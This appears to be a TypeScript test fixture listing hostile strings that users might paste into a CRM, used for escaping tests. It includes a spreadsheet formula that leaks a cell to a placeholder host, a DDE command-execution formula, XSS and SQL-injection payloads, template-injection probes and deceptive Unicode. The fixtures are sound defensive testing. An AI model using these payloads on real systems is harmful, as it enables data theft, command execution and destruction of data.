/** Texts as people paste them into a CRM: data everywhere, code wherever somebody forgets to escape. */
export const HOSTILE_TEXTS = [
  '=HYPERLINK("http://example.invalid/?leak="&A2,"click")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-2+3',
  '| not | a | table | row |',
  '<b>bold</b><img src=x onerror=alert(1)>',
  '\u001b[31mred\u001b[0m and \u001b]0;title\u0007',
  '`code` and ```fences```',
  '[link](javascript:alert(1))',
  "'); DROP TABLE events;--",
  '#{7*7} {{constructor}} %s %n <%= 7*7 %>',
  '--> end of comment; graph TD; A-->B',
  'right-to-left \u202e txt.exe, zero\u200bwidth, a null␀ that is none',
  '"quoted, with commas",and more',
] as const;

/** What is written over two lines stays one cell. */
export const TWO_LINES = [
  'Called twice.\nAsked to call back on Monday.',
  'Line one\r\nline two, with a "quote"',
  '- first\n- second\n\n- third',
] as const;
